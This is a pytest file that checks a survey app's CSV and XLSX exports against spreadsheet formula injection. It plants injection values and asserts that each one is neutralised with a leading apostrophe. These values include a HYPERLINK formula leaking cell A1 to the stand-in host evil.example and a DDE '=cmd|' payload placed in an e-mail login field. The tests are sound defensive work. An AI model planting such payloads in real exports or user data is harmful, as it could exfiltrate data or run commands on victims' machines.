"""Issue #20, class-wide: formula-looking text in every field that reaches a CSV or XLSX export.

Every export (admin pages and API) is downloaded: no cell may be a formula, each planted value
is there as text (one ``'`` in front, survey_app.core.exporters), and real numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pandas as pd
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.accounts.models import Role
from survey_app.core import db
from survey_app.fieldwork.models import FrameUnit, SampleDraw, SampleUnit, SamplingFrame
from survey_app.respond.models import Response

from .api_world import bearer, build, spec_with_draw
from .conftest import login
from .satisfaction_world import demo_projects, stored_run

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tcmd"]


LOG_IN_NAMES = ["=cmd|'/c.calc'!a1@example.org", "+1@example.org", "-2+3@example.org"]  # what the e-mail field takes


CONTACT_HEADER, ATTRIBUTE_HEADER = "@SUM(A1)", "=cmd"


_NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _formula(cell: str) -> bool:
    """What Excel, WPS or LibreOffice would run: =, +, @, tab or CR first, or - first unless a plain number."""
    return cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _NUMBER.fullmatch(cell))


def _plant(app: Flask) -> dict[str, Any]:
    """The API test survey with a formula in every text field its exports carry."""
    world = build(app)
    with db.session_factory(app)() as s:
        draw = s.get(SampleDraw, world.draw_id)
        assert draw is not None
        frame = s.get(SamplingFrame, draw.frame_id)
        assert frame is not None
        frame.columns = {**frame.columns, "contact": ["phone", "name", CONTACT_HEADER]}
        strata = {"c01": FORMULAS[0], "c02": FORMULAS[1], "c03": FORMULAS[2]}
        units = s.execute(select(SampleUnit, FrameUnit).join(FrameUnit, FrameUnit.id == SampleUnit.frame_unit_id).order_by(FrameUnit.id)).all()
        for i, (sample_unit, unit) in enumerate(units):
            unit.unit_key = f"{FORMULAS[i % 5]}#{i}"
            unit.contact = {"phone": FORMULAS[i % 5], "name": FORMULAS[(i + 1) % 5], CONTACT_HEADER: "-42"}
            unit.attributes = {**unit.attributes, "age_group": FORMULAS[i % 5], ATTRIBUTE_HEADER: "-7"}
            sample_unit.stratum = strata[sample_unit.stratum]
        for i, response in enumerate(s.scalars(select(Response).order_by(Response.id))):
            response.answers = {**response.answers, "suggestion": FORMULAS[i % 5], "income": -1500.5}
        s.commit()
        unit_keys = [unit.unit_key for _, unit in units]
    return {"world": world, "unit_keys": unit_keys}


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _check_csv(name: str, data: bytes, planted: set[str], numeric: list[str]) -> None:
    rows = _csv_cells(data)
    cells = {cell for row in rows for cell in row}
    assert not [cell for cell in cells if _formula(cell)], name
    assert {"'" + value for value in planted} <= cells, (name, {"'" + value for value in planted} - cells)
    table = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    for column in numeric:
        assert pd.api.types.is_numeric_dtype(table[column]), (name, column)


def _check_xlsx(name: str, data: bytes, planted: set[str], numeric: dict[str, list[str]]) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells), name
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert not [text for text in texts if _formula(text)], name
    assert {"'" + value for value in planted} <= texts, (name, {"'" + value for value in planted} - texts)
    for sheet_name, columns in numeric.items():
        rows = list(book[sheet_name].iter_rows(values_only=True))
        for column in columns:
            values = [row[rows[0].index(column)] for row in rows[1:] if row[rows[0].index(column)] is not None]
            assert values and all(isinstance(v, int | float) for v in values), (name, sheet_name, column)
    return texts


def test_no_export_carries_a_formula_and_numbers_stay_numbers(app: Flask, client: FlaskClient, make_user: Any) -> None:
    planted = _plant(app)
    world = planted["world"]
    run_id = stored_run(app, demo_projects(app), counties={"c01": FORMULAS[0], "c02": FORMULAS[1], "c03": FORMULAS[4]},
                        items={"i01": FORMULAS[2], "i02": FORMULAS[3]})
    stranger = app.test_client()
    for email in LOG_IN_NAMES:
        assert login(stranger, email, "wrong password").status_code == 401
    api = f"/api/v1/surveys/{world.project_id}"
    scheme = client.post(f"{api}/weighting-schemes/", json={"name": FORMULAS[0], "spec": spec_with_draw(world)}, headers=bearer(world.token))
    assert client.post(f"{api}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token)).status_code == 201

    def api_file(path: str) -> bytes:
        response = client.get(f"{api}/{path}", headers=bearer(world.token))
        assert response.status_code == 200, (path, response.data[:300])
        return response.data

    estimates = f"estimates/?scheme={scheme.json['id']}&variables=overall,i01&statistic=proportion&by=age_group"
    _check_csv("estimates.csv", api_file(f"{estimates}&format=csv"), set(FORMULAS), ["estimate", "se", "ci_low", "ci_high", "n"])
    texts = _check_xlsx("estimates.xlsx", api_file(f"{estimates}&format=xlsx"), set(FORMULAS), {"estimates": ["estimate", "se", "n"]})
    assert any(text.startswith("'" + FORMULAS[0] + " (id ") for text in texts)  # the scheme's name, on the "about" sheet
    micro_planted = {*FORMULAS, ATTRIBUTE_HEADER}
    _check_csv("microdata.csv", api_file(f"microdata?scheme={scheme.json['id']}&format=csv"), micro_planted,
               ["weight", "income", "fpc", "questionnaire_version", "'" + ATTRIBUTE_HEADER])
    _check_csv("microdata.csv (answers only)", api_file("microdata?format=csv"), set(FORMULAS), ["income", "questionnaire_version"])

    make_user(Role.ADMIN, "admin@example.org")
    assert login(client, "admin@example.org").status_code == 302
    invitations = {*FORMULAS, *planted["unit_keys"], CONTACT_HEADER}
    _check_csv("invitations.csv", client.get(f"/admin/draws/{world.draw_id}/invitations.csv").data, invitations, ["reminders_sent", "'" + CONTACT_HEADER])
    _check_xlsx("invitations.xlsx", client.get(f"/admin/draws/{world.draw_id}/invitations.xlsx").data, invitations,
                {"invitations": ["reminders_sent"]})
    _check_xlsx("satisfaction.xlsx", client.get(f"/admin/satisfaction/runs/{run_id}.xlsx").data, set(FORMULAS),
                {"composite": ["estimate", "se", "n", "rank"], "items": ["estimate", "se", "n"]})
    _check_csv("audit.csv", client.get("/admin/audit/export.csv").data, set(LOG_IN_NAMES), ["id", "actor_id"])
